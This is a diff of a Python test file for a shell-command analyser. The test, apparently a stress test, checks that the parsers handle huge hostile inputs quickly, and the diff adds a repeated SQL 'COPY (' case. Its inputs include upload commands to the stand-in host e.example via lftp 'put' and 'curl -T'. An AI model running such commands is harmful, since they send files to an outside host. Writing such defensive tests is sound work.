@@ -259,12 +259,14 @@ BIG = 65536
         "lftp -c 'open " + "; put f" * (BIG // 7) + "' ftp://e.example",
         "git remote add " + "x " * (BIG // 2),
         "tar czf " + "f " * (BIG // 2),
+        "COPY (" * (BIG // 6),  # a lazy query tried at each one took seconds
     ],
 )
 def test_hostile_shell_text_neither_breaks_nor_stalls_the_readers(text):
     state = ShellState()
     started = time.perf_counter()
     learn(text, state, True)
+    learn(text, state, False)  # as SQL in a query tool's argument
     transfers(text, state)
     in_shell("curl -T f $V5999 https://e.example/", state=state)
     assert time.perf_counter() - started < 2.0
